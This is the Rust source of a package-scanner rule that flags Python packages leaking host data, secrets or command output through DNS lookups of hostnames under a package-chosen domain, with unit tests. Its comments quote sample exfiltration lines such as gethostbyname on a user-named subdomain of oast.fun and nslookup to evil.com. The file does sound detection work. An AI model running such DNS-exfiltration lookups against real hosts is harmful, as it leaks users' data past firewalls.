//! STL012 data-in-dns-name: data of the host built into a host name under a domain the
//! package wrote, and looked up (`gethostbyname(f"{user}.x.oast.fun")`, `nslookup
//! {hex}.evil.com`). The lookup itself carries the data to the domain's name server: a
//! channel that passes firewalls, and one honest code has no use for (resolving the host's
//! own name is not this: no domain of the package's is added).

use crate::flows::{at_flow, network_program, resolves_names};
use crate::id::{Behaviour, RuleId};
use crate::model::{Category, Finding, PackageFacts, Rule, Severity};
use malpi_python::{HOLE, SinkKind, Source};

pub static RULE: Rule = Rule {
    id: RuleId::Stl012,
    name: "data-in-dns-name",
    category: Category::InformationStealing,
    severity: Severity::High,
    description: "Host data, secrets or command output built into a host name under a domain the package wrote, and resolved (DNS exfiltration).",
    check,
};

/// The package wrote a domain after the data: `{…}.{…}.oast.fun`, `{…}.x.evil.com`.
fn written_domain(name: &str) -> bool {
    let Some((_, after)) = name.rsplit_once(HOLE) else {
        return false;
    };
    let labels: Vec<&str> = after
        .trim_start_matches('.')
        .split(|c: char| c.is_whitespace() || c == '"' || c == '\'')
        .next()
        .unwrap_or("")
        .split('.')
        .filter(|l| !l.is_empty())
        .collect();
    after.starts_with('.')
        && labels.len() >= 2
        && labels
            .iter()
            .all(|l| l.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'))
}

fn check(rule: &Rule, pkg: &PackageFacts, out: &mut Vec<Finding>) {
    for flow in &pkg.flows {
        let Some(name) = flow.destination.text.as_deref() else {
            continue;
        };
        let lookup = match flow.sink {
            SinkKind::Dns => true,
            SinkKind::Command => network_program(name).is_some_and(resolves_names),
            _ => false,
        };
        if !lookup || !written_domain(name) {
            continue;
        }
        let Some(source) =
            flow.sources.iter().map(|a| &a.source).find(|s| {
                crate::flows::data_kind(s).is_some() || matches!(s, Source::EnvVariable(_))
            })
        else {
            continue;
        };
        let message = format!(
            "{} built into host name `{}` and looked up with {}",
            crate::flows::describe_source(source),
            malpi_python::cut(name, 80),
            flow.call
        );
        out.extend(at_flow(
            rule,
            pkg,
            flow,
            Behaviour::DnsExfiltration,
            message,
        ));
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn a_domain_after_the_data_is_written() {
        assert!(super::written_domain("{…}.{…}.oast.fun"));
        assert!(super::written_domain("nslookup {…}.x.burpcollaborator.net"));
        assert!(!super::written_domain("{…}"));
        assert!(!super::written_domain("{…}.local"));
    }
}
